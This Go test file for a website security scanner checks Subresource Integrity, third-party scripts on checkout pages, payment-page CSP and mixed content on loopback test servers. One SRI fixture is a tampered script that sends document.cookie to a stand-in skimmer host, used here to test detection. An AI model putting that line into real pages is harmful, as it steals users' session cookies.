package scan_test

// End-to-end tests of the payment-page issue: Subresource Integrity, third-party scripts,
// payment pages and their CSP, the https copy probe, and the golden JSON report of a small
// payment site with its script inventory. Every server is an httptest server on loopback; the
// made-up host names reach it through Config.Resolve, certificates come from a test CA of
// our own, and a dialer refuses anything that is not a loopback address.

import (
	"bytes"
	"encoding/json"
	"fmt"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/padlock-scan/padlock/internal/sitetest"
	"github.com/padlock-scan/padlock/internal/sitetest/testnet"
	"github.com/padlock-scan/padlock/report"
	"github.com/padlock-scan/padlock/scan"
)

// ---------------------------------------------------------------------------------------------
// The shop: one TLS server for the site and its third parties, each a host name of its own.

// Host names of the shop world. vendor.test and paytools.test are third-party sites;
// static.shop.test belongs to the site; js.stripe.com is on padlock's built-in list of card
// frame providers (and, like every name here, resolves to loopback only).
var payShopHosts = []string{"www.shop.test", "static.shop.test", "cdn.vendor.test", "js.paytools.test", "js.stripe.com"}

// startPayShop serves v on the shop's host names, each with a valid certificate.
// Placeholders: {{www}}, {{static}}, {{cdn}}, {{paytools}}, {{stripe}} (origins with port), {{port}}.
func startPayShop(t testing.TB, v *sitetest.VHosts) *sitetest.Hosts {
	t.Helper()
	s := sitetest.StartHosts(t, v, payShopHosts...)
	v.Vars["www"] = s.Origin("www.shop.test")
	v.Vars["static"] = s.Origin("static.shop.test")
	v.Vars["cdn"] = s.Origin("cdn.vendor.test")
	v.Vars["paytools"] = s.Origin("js.paytools.test")
	v.Vars["stripe"] = s.Origin("js.stripe.com")
	v.Vars["port"] = s.Port
	return s
}

// payOptions crawls the shop from www.shop.test/ (or the given paths).
func payOptions(s *sitetest.Hosts, paths ...string) scan.Options {
	if len(paths) == 0 {
		paths = []string{"/"}
	}
	var starts []string
	for _, p := range paths {
		starts = append(starts, s.Origin("www.shop.test")+p)
	}
	return s.Options(starts)
}

// ---------------------------------------------------------------------------------------------
// 1. Subresource Integrity.

func TestPaymentSRI(t *testing.T) {
	t.Parallel()
	const (
		original = "console.log('the reviewed release');\n"
		tampered = "console.log('the reviewed release'); fetch('https://skimmer.invalid/?c='+document.cookie);\n"
		weak     = "window.weak = 1;\n"
		strong   = "window.strong = 1;\n"
		nocors   = "window.nocors = 1;\n"
		noacao   = "window.noacao = 1;\n"
		cors     = "window.cors = 1;\n"
		sha1     = "window.sha1 = 1;\n"
		first    = "window.app = 1;\n"
	)
	v := sitetest.NewVHosts()
	acao := "Access-Control-Allow-Origin: *"
	v.Add("cdn.vendor.test/mismatch.js", sitetest.JS(tampered, acao))
	v.Add("cdn.vendor.test/weak.js", sitetest.JS(weak, acao))
	v.Add("cdn.vendor.test/strong.js", sitetest.JS(strong, acao))
	v.Add("cdn.vendor.test/nocors.js", sitetest.JS(nocors, acao))
	v.Add("cdn.vendor.test/noacao.js", sitetest.JS(noacao)) // no Access-Control-Allow-Origin
	v.Add("cdn.vendor.test/cors.js", sitetest.JS(cors, acao))
	v.Add("cdn.vendor.test/sha1.js", sitetest.JS(sha1, acao))
	v.Add("cdn.vendor.test/style.css", sitetest.CSS("body { color: #222 }\n", acao))
	v.Add("static.shop.test/app.js", sitetest.JS(first))
	badSHA384 := testnet.SRI("sha384", "something else entirely")
	page := `<!doctype html>
<html><head><title>SRI cases</title>
<link rel="stylesheet" href="{{cdn}}/style.css">
</head><body>
<script src="{{cdn}}/mismatch.js" integrity="` + testnet.SRI("sha384", original) + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/weak.js" integrity="` + testnet.SRI("sha256", weak) + " " + badSHA384 + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/strong.js" integrity="` + testnet.SRI("sha256", "not the file") + " " + testnet.SRI("sha384", strong) + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/nocors.js" integrity="` + testnet.SRI("sha384", nocors) + `"></script>
<script src="{{cdn}}/noacao.js" integrity="` + testnet.SRI("sha384", noacao) + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/cors.js" integrity="` + testnet.SRI("sha384", cors) + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/sha1.js" integrity="sha1-Bdjv4ES9MDyk7rjyByB1hLhJnb4=" crossorigin="anonymous"></script>
<script src="{{static}}/app.js"></script>
</body></html>
`
	v.Add("www.shop.test/sri.html", sitetest.HTML(page))
	s := startPayShop(t, v)
	rep := sitetest.MustScan(t, payOptions(s, "/sri.html"))

	pg := s.Origin("www.shop.test") + "/sri.html"
	cdn := s.Origin("cdn.vendor.test")
	sitetest.Same(t, "SRI findings", sitetest.Findings(rep, "sri-missing", "sri-mismatch", "sri-cors"), []sitetest.FID{
		{"sri-mismatch", "error", pg, cdn + "/mismatch.js"},
		{"sri-mismatch", "error", pg, cdn + "/weak.js"},
		{"sri-cors", "error", pg, cdn + "/nocors.js"},
		{"sri-cors", "error", pg, cdn + "/noacao.js"},
		{"sri-missing", "warning", pg, cdn + "/style.css"},
		{"sri-missing", "warning", pg, cdn + "/sha1.js"},
	})

	f := sitetest.FindingOf(t, rep, "sri-mismatch", pg, cdn+"/mismatch.js")
	sitetest.Contains(t, "sri-mismatch message", f.Message, "expected "+testnet.SRI("sha384", original), "hashes to "+testnet.SRI("sha384", tampered))
	if f.Line != sitetest.LineOf(t, page, "/mismatch.js") || f.Element != "script" || f.Attribute != "src" {
		t.Errorf("sri-mismatch: element %q attribute %q line %d, want script src line %d", f.Element, f.Attribute, f.Line, sitetest.LineOf(t, page, "/mismatch.js"))
	}
	f = sitetest.FindingOf(t, rep, "sri-mismatch", pg, cdn+"/weak.js")
	sitetest.Contains(t, "sri-mismatch (weaker hash matches) message", f.Message,
		"expected "+badSHA384, "hashes to "+testnet.SRI("sha384", weak), "only the strongest algorithm listed, sha384, counts")
	f = sitetest.FindingOf(t, rep, "sri-cors", pg, cdn+"/nocors.js")
	sitetest.Contains(t, "sri-cors (no crossorigin) message", f.Message, "no crossorigin attribute")
	f = sitetest.FindingOf(t, rep, "sri-cors", pg, cdn+"/noacao.js")
	sitetest.Contains(t, "sri-cors (no ACAO) message", f.Message, "no Access-Control-Allow-Origin")
	f = sitetest.FindingOf(t, rep, "sri-missing", pg, cdn+"/sha1.js")
	sitetest.Contains(t, "sri-missing (sha1 only) message", f.Message, "sha1-", "names no algorithm")
	f = sitetest.FindingOf(t, rep, "sri-missing", pg, cdn+"/style.css")
	sitetest.Contains(t, "sri-missing (stylesheet) message", f.Message, "has no integrity")

	// The inventory agrees: integrity_valid from the bytes padlock fetched, once per URL.
	for _, c := range []struct {
		url, valid, sha string
	}{
		{cdn + "/mismatch.js", "false", sitetest.Hex(tampered)},
		{cdn + "/weak.js", "false", sitetest.Hex(weak)},
		{cdn + "/strong.js", "true", sitetest.Hex(strong)},
		{cdn + "/cors.js", "true", sitetest.Hex(cors)},
		{cdn + "/sha1.js", "absent", sitetest.Hex(sha1)},
		{s.Origin("static.shop.test") + "/app.js", "absent", sitetest.Hex(first)},
	} {
		sc := sitetest.ScriptOf(t, rep, c.url)
		if got := sitetest.Bool(sc.IntegrityValid); got != c.valid || sc.SHA256 != c.sha {
			t.Errorf("inventory %s: integrity_valid %s sha256 %s, want %s %s", c.url, got, sc.SHA256, c.valid, c.sha)
		}
	}
	if sc := sitetest.ScriptOf(t, rep, s.Origin("static.shop.test")+"/app.js"); sc.Party != "first" {
		t.Errorf("static.shop.test is the site's own host: party %q, want first", sc.Party)
	}
	for _, p := range []string{"mismatch.js", "weak.js", "strong.js", "sha1.js"} {
		if n := v.Requests("GET", "cdn.vendor.test/"+p); n != 1 {
			t.Errorf("%s fetched with GET %d times, want once", p, n)
		}
	}
}

// ---------------------------------------------------------------------------------------------
// 2. third-party-script: severity by page, --allow-script, --first-party.

const payCheckoutPage = `<!doctype html>
<html><head><title>Checkout</title></head><body>
<h1>Pay for your order</h1>
<form method="post" action="/pay">
<input type="email" name="email" autocomplete="email">
<input name="cardnumber" autocomplete="cc-number" inputmode="numeric">
<input name="exp" autocomplete="cc-exp">
<input name="cvc" autocomplete="cc-csc">
<button type="submit">Pay</button>
</form>
<script src="{{cdn}}/lib.js"></script>
</body></html>
`

func TestPaymentThirdPartyScript(t *testing.T) {
	t.Parallel()
	const lib = "window.lib = 1;\n"
	plainPage := `<!doctype html>
<html><head><title>About</title></head><body>
<p>About us</p>
<script src="{{cdn}}/lib.js"></script>
</body></html>
`
	index := `<!doctype html><title>Shop</title><a href="/plain.html">about</a> <a href="/checkout.html">checkout</a>`
	cases := []struct {
		name        string
		allow       []string
		firstParty  []string
		flagged     bool   // third-party-script expected
		party       string // in the inventory
		allowedBy   string
		sriExpected bool
	}{
		{name: "default", flagged: true, party: "third", sriExpected: true},
		{name: "allow origin", allow: []string{"https://cdn.vendor.test:{{port}}"}, party: "third", allowedBy: "https://cdn.vendor.test:{{port}}", sriExpected: true},
		{name: "allow pattern", allow: []string{"*.vendor.test"}, party: "third", allowedBy: "*.vendor.test", sriExpected: true},
		// An origin pattern matches the port too: https://cdn.vendor.test is port 443.
		{name: "allow other port", allow: []string{"https://cdn.vendor.test"}, flagged: true, party: "third", sriExpected: true},
		{name: "first party", firstParty: []string{"vendor.test"}, party: "first"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			v := sitetest.NewVHosts()
			v.Add("www.shop.test/", sitetest.HTML(index))
			v.Add("www.shop.test/plain.html", sitetest.HTML(plainPage))
			v.Add("www.shop.test/checkout.html", sitetest.HTML(payCheckoutPage))
			v.Add("cdn.vendor.test/lib.js", sitetest.JS(lib))
			s := startPayShop(t, v)
			opt := payOptions(s)
			for _, a := range tc.allow {
				opt.Rules.AllowScript = append(opt.Rules.AllowScript, v.Expand(a))
			}
			opt.Crawl.FirstParty = tc.firstParty
			opt.Rules.FirstParty = tc.firstParty
			rep := sitetest.MustScan(t, opt)

			plain := s.Origin("www.shop.test") + "/plain.html"
			checkout := s.Origin("www.shop.test") + "/checkout.html"
			script := s.Origin("cdn.vendor.test") + "/lib.js"
			var want []sitetest.FID
			if tc.flagged {
				want = []sitetest.FID{
					{"third-party-script", "warning", plain, script},
					{"third-party-script", "error", checkout, script},
				}
			}
			sitetest.Same(t, "third-party-script", sitetest.Findings(rep, "third-party-script"), want)
			if tc.flagged {
				f := sitetest.FindingOf(t, rep, "third-party-script", checkout, script)
				sitetest.Contains(t, "payment-page message", f.Message,
					"not approved by --allow-script",
					fmt.Sprintf(`this is a payment page: input autocomplete="cc-number" (line %d)`, sitetest.LineOf(t, payCheckoutPage, "cc-number")))
				if f.Line != sitetest.LineOf(t, payCheckoutPage, "/lib.js") {
					t.Errorf("third-party-script line %d, want %d", f.Line, sitetest.LineOf(t, payCheckoutPage, "/lib.js"))
				}
				f = sitetest.FindingOf(t, rep, "third-party-script", plain, script)
				if strings.Contains(f.Message, "payment page") {
					t.Errorf("not a payment page, but the message says so: %s", f.Message)
				}
			}
			// sri-missing fires on third-party scripts, approved or not; never on first-party ones.
			want = nil
			if tc.sriExpected {
				want = []sitetest.FID{{"sri-missing", "warning", plain, script}, {"sri-missing", "warning", checkout, script}}
			}
			sitetest.Same(t, "sri-missing", sitetest.Findings(rep, "sri-missing"), want)

			sc := sitetest.ScriptOf(t, rep, script)
			wantAllowed := v.Expand(tc.allowedBy)
			if sc.Party != tc.party || sc.AllowedBy != wantAllowed {
				t.Errorf("inventory: party %q allowed_by %q, want %q %q", sc.Party, sc.AllowedBy, tc.party, wantAllowed)
			}
			if sc.PageCount != 2 || !slices.Equal(sc.Pages, []string{checkout, plain}) || !slices.Equal(sc.PaymentPages, []string{checkout}) {
				t.Errorf("inventory: page_count %d pages %v payment_pages %v, want 2 [%s %s] [%s]", sc.PageCount, sc.Pages, sc.PaymentPages, checkout, plain, checkout)
			}
			if sc.SHA256 != sitetest.Hex(lib) || sc.Size != int64(len(lib)) || sc.Status != 200 {
				t.Errorf("inventory: sha256 %s size %d status %d, want %s %d 200", sc.SHA256, sc.Size, sc.Status, sitetest.Hex(lib), len(lib))
			}
			if n := v.Requests("GET", "cdn.vendor.test/lib.js"); n != 1 {
				t.Errorf("lib.js is on two pages but must be fetched once: %d GET requests", n)
			}
		})
	}
}

// ---------------------------------------------------------------------------------------------
// 3. Payment pages and payment-csp-missing.

func TestPaymentPages(t *testing.T) {
	t.Parallel()
	framePage := `<!doctype html>
<html><head><title>Pay by card</title></head><body>
<p>Enter your card details below.</p>
<iframe src="{{stripe}}/v3/elements-inner-card.html" title="Secure card payment input frame"></iframe>
</body></html>
`
	searchPage := `<!doctype html>
<html><head><title>Search</title></head><body>
<form action="/search" role="search">
<input type="search" name="q" placeholder="Search the shop">
<input name="number" placeholder="order number">
<input name="code" placeholder="coupon code">
<input type="hidden" name="cvv" value="">
<button>Go</button>
</form>
</body></html>
`
	index := `<!doctype html><title>Shop</title>
<a href="/checkout.html">checkout</a>
<a href="/checkout-csp.html">checkout with CSP</a>
<a href="/checkout-ro.html">checkout with report-only CSP</a>
<a href="/checkout-default.html">checkout with default-src</a>
<a href="/checkout-any.html">checkout with a CSP that allows any host</a>
<a href="/checkout-meta.html">checkout with a meta CSP</a>
<a href="/card-frame.html">card frame</a>
<a href="/search.html">search</a>`
	v := sitetest.NewVHosts()
	v.Add("www.shop.test/", sitetest.HTML(index))
	v.Add("www.shop.test/checkout.html", sitetest.HTML(payCheckoutPage))
	v.Add("www.shop.test/checkout-csp.html", sitetest.HTML(payCheckoutPage, "Content-Security-Policy: script-src 'self'"))
	v.Add("www.shop.test/checkout-ro.html", sitetest.HTML(payCheckoutPage, "Content-Security-Policy-Report-Only: script-src 'self'"))
	v.Add("www.shop.test/checkout-default.html", sitetest.HTML(payCheckoutPage, "Content-Security-Policy: default-src 'self'"))
	v.Add("www.shop.test/checkout-any.html", sitetest.HTML(payCheckoutPage, "Content-Security-Policy: script-src * 'unsafe-inline'"))
	v.Add("www.shop.test/checkout-meta.html", sitetest.HTML(strings.Replace(payCheckoutPage, "<title>",
		`<meta http-equiv="Content-Security-Policy" content="script-src 'self'"><title>`, 1)))
	v.Add("www.shop.test/card-frame.html", sitetest.HTML(framePage))
	v.Add("www.shop.test/search.html", sitetest.HTML(searchPage))
	v.Add("cdn.vendor.test/lib.js", sitetest.JS("window.lib = 1;\n"))
	v.Add("js.stripe.com/v3/elements-inner-card.html", sitetest.HTML("<!doctype html><title>card</title><input autocomplete=cc-number>"))
	s := startPayShop(t, v)
	rep := sitetest.MustScan(t, payOptions(s))

	www := s.Origin("www.shop.test")
	cardSignals := []string{
		fmt.Sprintf(`input autocomplete="cc-number" (line %d)`, sitetest.LineOf(t, payCheckoutPage, "cc-number")),
		fmt.Sprintf(`input autocomplete="cc-exp" (line %d)`, sitetest.LineOf(t, payCheckoutPage, "cc-exp")),
		fmt.Sprintf(`input autocomplete="cc-csc" (line %d)`, sitetest.LineOf(t, payCheckoutPage, "cc-csc")),
	}
	for _, c := range []struct {
		path    string
		payment bool
		signals []string
	}{
		{"/", false, nil},
		{"/checkout.html", true, cardSignals},
		{"/checkout-csp.html", true, cardSignals},
		{"/checkout-ro.html", true, cardSignals},
		{"/checkout-default.html", true, cardSignals},
		{"/checkout-any.html", true, cardSignals},
		{"/checkout-meta.html", true, cardSignals},
		{"/card-frame.html", true, []string{fmt.Sprintf("card frame from js.stripe.com (line %d)", sitetest.LineOf(t, framePage, "<iframe"))}},
		{"/search.html", false, nil},
	} {
		p := sitetest.PageOf(t, rep, www+c.path)
		if p.Payment != c.payment || !slices.Equal(p.PaymentSignals, c.signals) {
			t.Errorf("page %s: payment %v signals %q, want %v %q", c.path, p.Payment, p.PaymentSignals, c.payment, c.signals)
		}
	}
	if len(rep.Pages) != 9 {
		t.Errorf("want the 9 shop pages (the provider's frame is off scope, never a page), got %d", len(rep.Pages))
	}
	// The provider's frame was requested (HEAD), on loopback, through --resolve.
	if n := v.Requests("HEAD", "js.stripe.com/v3/elements-inner-card.html"); n != 1 {
		t.Errorf("the card frame was requested %d times with HEAD, want once", n)
	}

	sitetest.Same(t, "payment-csp-missing", sitetest.Findings(rep, "payment-csp-missing"), []sitetest.FID{
		{"payment-csp-missing", "warning", www + "/checkout.html", www + "/checkout.html"},
		{"payment-csp-missing", "warning", www + "/checkout-ro.html", www + "/checkout-ro.html"},
		{"payment-csp-missing", "warning", www + "/checkout-any.html", www + "/checkout-any.html"},
		{"payment-csp-missing", "warning", www + "/card-frame.html", www + "/card-frame.html"},
	})
	f := sitetest.FindingOf(t, rep, "payment-csp-missing", www+"/checkout.html", www+"/checkout.html")
	sitetest.Contains(t, "payment-csp-missing message", f.Message, "payment page has no Content-Security-Policy", cardSignals[0])
	f = sitetest.FindingOf(t, rep, "payment-csp-missing", www+"/checkout-ro.html", www+"/checkout-ro.html")
	sitetest.Contains(t, "payment-csp-missing (report-only) message", f.Message, "report-only")
	f = sitetest.FindingOf(t, rep, "payment-csp-missing", www+"/checkout-any.html", www+"/checkout-any.html")
	sitetest.Contains(t, "payment-csp-missing (script-src *) message", f.Message, "does not restrict scripts")
	f = sitetest.FindingOf(t, rep, "payment-csp-missing", www+"/card-frame.html", www+"/card-frame.html")
	sitetest.Contains(t, "payment-csp-missing (card frame) message", f.Message, "card frame from js.stripe.com")

	// The JSON report marks payment pages only.
	var buf bytes.Buffer
	w, _ := report.New("json")
	if err := w.Write(&buf, rep); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Pages []map[string]json.RawMessage `json:"pages"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	for _, p := range doc.Pages {
		var u string
		_ = json.Unmarshal(p["url"], &u)
		pay, has := p["payment"]
		switch {
		case strings.HasSuffix(u, "/search.html") || strings.HasSuffix(u, "/"):
			if has {
				t.Errorf("JSON page %s: \"payment\": %s, want the field absent", u, pay)
			}
		case string(pay) != "true" || p["payment_signals"] == nil:
			t.Errorf("JSON page %s: \"payment\": %s, signals %s; want true and signals", u, pay, p["payment_signals"])
		}
	}
}

// ---------------------------------------------------------------------------------------------
// 5. https_available on mixed-content findings.

// TestPaymentHTTPSAvailable serves http://img.shop.test/ (port 80) and https://img.shop.test/
// (port 443): the test network sends 127.0.0.1:80 and :443 to the two test servers, so the
// crawler's https copy of an http: URL (the browser's upgrade: port 80 becomes 443) is real.
func TestPaymentHTTPSAvailable(t *testing.T) {
	t.Parallel()
	png := "\x89PNG\r\n\x1a\n"
	page := `<!doctype html>
<html><head><title>images</title></head><body>
<img src="http://img.shop.test/yes.png" alt="">
<img src="http://img.shop.test/no.png" alt="">
<img src="http://img.shop.test/soft404.png" alt="">
</body></html>
`
	build := func(t *testing.T) (*sitetest.Hosts, *sitetest.VHosts) {
		v := sitetest.NewVHosts()
		v.Add("www.shop.test/mixed.html", sitetest.HTML(page))
		// The https side has yes.png; soft404.png answers 200 with an HTML error page, which is
		// not the image; no.png is not found.
		v.Add("img.shop.test/yes.png", sitetest.Route{Type: "image/png", Body: png})
		v.Add("img.shop.test/soft404.png", sitetest.HTML("<!doctype html><title>Not found</title>"))
		plain := sitetest.NewVHosts()
		plain.Add("img.shop.test/yes.png", sitetest.Route{Type: "image/png", Body: png})
		plain.Add("img.shop.test/no.png", sitetest.Route{Type: "image/png", Body: png})
		plain.Add("img.shop.test/soft404.png", sitetest.Route{Type: "image/png", Body: png})
		httpSrv := testnet.HTTPServer(t, plain)
		s := startPayShop(t, v)
		// img.shop.test needs a certificate too: a second TLS server for port 443.
		imgSrv := testnet.TLSServer(t, v, s.CA.ValidLeaf(t, "img.shop.test"))
		s.Guard.Map("127.0.0.1:80", httpSrv.Listener.Addr().String())
		s.Guard.Map("127.0.0.1:443", imgSrv.Listener.Addr().String())
		return s, plain
	}
	for _, level := range []string{"all", "scripts"} {
		t.Run(level, func(t *testing.T) {
			t.Parallel()
			s, plain := build(t)
			opt := payOptions(s, "/mixed.html")
			opt.Crawl.CheckResources = level
			opt.Crawl.Resolve = append(opt.Crawl.Resolve, "img.shop.test:80:127.0.0.1", "img.shop.test:443:127.0.0.1")
			rep := sitetest.MustScan(t, opt)
			pg := s.Origin("www.shop.test") + "/mixed.html"
			sitetest.Same(t, "mixed content", sitetest.Findings(rep, "mixed-content-upgradeable", "mixed-content-blockable"), []sitetest.FID{
				{"mixed-content-upgradeable", "warning", pg, "http://img.shop.test/yes.png"},
				{"mixed-content-upgradeable", "warning", pg, "http://img.shop.test/no.png"},
				{"mixed-content-upgradeable", "warning", pg, "http://img.shop.test/soft404.png"},
			})
			want := map[string]string{"http://img.shop.test/yes.png": "true", "http://img.shop.test/no.png": "false", "http://img.shop.test/soft404.png": "false"}
			if level != "all" {
				for u := range want {
					want[u] = "absent"
				}
			}
			for u, w := range want {
				f := sitetest.FindingOf(t, rep, "mixed-content-upgradeable", pg, u)
				if got := sitetest.Bool(f.HTTPSAvailable); got != w {
					t.Errorf("%s: https_available %s, want %s", u, got, w)
				}
			}
			var buf bytes.Buffer
			jw, _ := report.New("json")
			if err := jw.Write(&buf, rep); err != nil {
				t.Fatal(err)
			}
			n := strings.Count(buf.String(), `"https_available"`)
			if level == "all" && (n != 3 || !strings.Contains(buf.String(), `"https_available": true`) || !strings.Contains(buf.String(), `"https_available": false`)) {
				t.Errorf("JSON: want https_available true and false, got %d field(s)", n)
			}
			if level != "all" && n != 0 {
				t.Errorf("JSON with --check-resources %s: https_available must be absent, found %d", level, n)
			}
			// With "all" the http images were requested; with "scripts" padlock requests none.
			got := plain.Requests("HEAD", "img.shop.test/yes.png")
			if level == "all" && got != 1 || level != "all" && got != 0 {
				t.Errorf("--check-resources %s: http://img.shop.test/yes.png requested %d times with HEAD", level, got)
			}
		})
	}
}

// ---------------------------------------------------------------------------------------------
// 6. Golden JSON report of a payment site.

const payGoldenCheckout = `<!doctype html>
<html><head><title>Checkout</title>
<script src="{{cdn}}/widget.js" integrity="{{widget_sri}}" crossorigin="anonymous"></script>
<script src="{{paytools}}/sdk.js"></script>
</head><body>
<h1>Checkout</h1>
<form method="post" action="/pay">
<input name="cc-name" autocomplete="cc-name">
<input name="cardnumber" autocomplete="cc-number">
<input name="exp" autocomplete="cc-exp">
<input name="cvc" autocomplete="cc-csc">
<button type="submit" onclick="return validateCard(this.form)">Pay</button>
</form>
<script>window.dataLayer = window.dataLayer || []; dataLayer.push({page: "checkout"});</script>
</body></html>
`

const (
	payGoldenWidget = "/* vendor widget 2.4.1 */\nwindow.VendorWidget = {init: function () {}};\n"
	payGoldenSDK    = "/* paytools sdk */\nwindow.PayTools = {mount: function () {}};\n"
	payGoldenApp    = "/* shop app */\nfunction validateCard(f) { return true; }\n"
)

var (
	payCertDateRE = regexp.MustCompile(`"(not_before|not_after)": "[^"]*"`)
)

// paymentGoldenJSON crawls the payment site and returns its normalised JSON report.
func paymentGoldenJSON(t *testing.T) []byte {
	t.Helper()
	v := sitetest.NewVHosts()
	hsts := "Strict-Transport-Security: max-age=31536000; includeSubDomains"
	v.Add("www.shop.test/", sitetest.HTML(`<!doctype html>
<html><head><title>Shop</title>
<script src="/app.js"></script>
</head><body>
<a href="/checkout">Checkout</a>
</body></html>
`, hsts))
	v.Add("www.shop.test/checkout", sitetest.HTML(payGoldenCheckout, hsts))
	v.Add("www.shop.test/app.js", sitetest.JS(payGoldenApp))
	v.Add("cdn.vendor.test/widget.js", sitetest.JS(payGoldenWidget, "Access-Control-Allow-Origin: *"))
	v.Add("js.paytools.test/sdk.js", sitetest.JS(payGoldenSDK))
	s := startPayShop(t, v)
	v.Vars["widget_sri"] = testnet.SRI("sha384", payGoldenWidget)
	opt := payOptions(s)
	opt.Crawl.Concurrency = 1 // one request at a time: a repeatable order
	opt.Rules.AllowScript = []string{"*.paytools.test"}
	rep := sitetest.MustScan(t, opt)
	out := sitetest.NormalizeReport(sitetest.JSON(t, rep), s.Port, "PORT")
	return payCertDateRE.ReplaceAll(out, []byte(`"$1": "(certificate date)"`))
}

// TestPaymentGolden compares the JSON report of a small payment site (a checkout page with
// card fields, two third-party scripts, an inline script and an onclick handler) with
// testdata/golden/payment.json. Run go test ./scan -run TestPaymentGolden -update to rewrite it.
func TestPaymentGolden(t *testing.T) {
	t.Parallel()
	got := paymentGoldenJSON(t)
	sitetest.Golden(t, filepath.Join("..", "testdata", "golden", "payment.json"), got, *updateGolden)
	if *updateGolden {
		return
	}

	// What the golden file must show, checked here too so a careless -update cannot lose it.
	var rep report.Report
	parsable := strings.ReplaceAll(string(got), `"(certificate date)"`, `"0001-01-01T00:00:00Z"`)
	if err := json.Unmarshal([]byte(parsable), &rep); err != nil {
		t.Fatal(err)
	}
	checkout := sitetest.PageOf(t, &rep, "https://www.shop.test:PORT/checkout")
	if !checkout.Payment || len(checkout.PaymentSignals) != 4 {
		t.Errorf("checkout: payment %v signals %q, want true and 4 signals", checkout.Payment, checkout.PaymentSignals)
	}
	if p := sitetest.PageOf(t, &rep, "https://www.shop.test:PORT/"); p.Payment {
		t.Errorf("the home page is not a payment page")
	}
	inline := `window.dataLayer = window.dataLayer || []; dataLayer.push({page: "checkout"});`
	handler := `return validateCard(this.form)`
	wantScripts := []string{
		fmt.Sprintf("external https://cdn.vendor.test:PORT/widget.js third allowed=%q integrity=%t valid=true sha=%s pages=1 payment=1", "", true, sitetest.Hex(payGoldenWidget)),
		fmt.Sprintf("external https://js.paytools.test:PORT/sdk.js third allowed=%q integrity=%t valid=absent sha=%s pages=1 payment=1", "*.paytools.test", false, sitetest.Hex(payGoldenSDK)),
		fmt.Sprintf("external https://www.shop.test:PORT/app.js first allowed=%q integrity=%t valid=absent sha=%s pages=1 payment=0", "", false, sitetest.Hex(payGoldenApp)),
		fmt.Sprintf("handler  first allowed=%q integrity=%t valid=absent sha=%s pages=1 payment=1", "", false, sitetest.Hex(handler)),
		fmt.Sprintf("inline  first allowed=%q integrity=%t valid=absent sha=%s pages=1 payment=1", "", false, sitetest.Hex(inline)),
	}
	var gotScripts []string
	for _, sc := range rep.Scripts {
		gotScripts = append(gotScripts, fmt.Sprintf("%s %s %s allowed=%q integrity=%t valid=%s sha=%s pages=%d payment=%d",
			sc.Kind, sc.URL, sc.Party, sc.AllowedBy, sc.Integrity != "", sitetest.Bool(sc.IntegrityValid), sc.SHA256, sc.PageCount, len(sc.PaymentPages)))
	}
	slices.Sort(gotScripts)
	slices.Sort(wantScripts)
	if !slices.Equal(gotScripts, wantScripts) {
		t.Errorf("script inventory:\n\tgot  %s\n\twant %s", strings.Join(gotScripts, "\n\t     "), strings.Join(wantScripts, "\n\t     "))
	}
	origins := map[string]report.Origin{}
	for _, o := range rep.Origins {
		origins[o.Origin] = o
	}
	for _, name := range []string{"https://www.shop.test:PORT", "https://cdn.vendor.test:PORT", "https://js.paytools.test:PORT"} {
		o, ok := origins[name]
		if !ok {
			t.Errorf("origin %s missing from the report", name)
			continue
		}
		if o.TLSVersion != "TLS 1.3" || o.LegacyTLS || o.Certificate == nil || o.Certificate.Problem != "" ||
			o.Certificate.Issuer != "CN=padlock test root CA,O=padlock" ||
			o.Certificate.Subject != "CN="+strings.TrimSuffix(strings.TrimPrefix(name, "https://"), ":PORT") {
			t.Errorf("origin %s: %+v (certificate %+v)", name, o, o.Certificate)
		}
	}
	if o := origins["https://www.shop.test:PORT"]; o.HSTS != "max-age=31536000; includeSubDomains" || o.HSTSPages != 2 {
		t.Errorf("site origin HSTS %q on %d pages, want max-age=31536000; includeSubDomains on 2", o.HSTS, o.HSTSPages)
	}
}
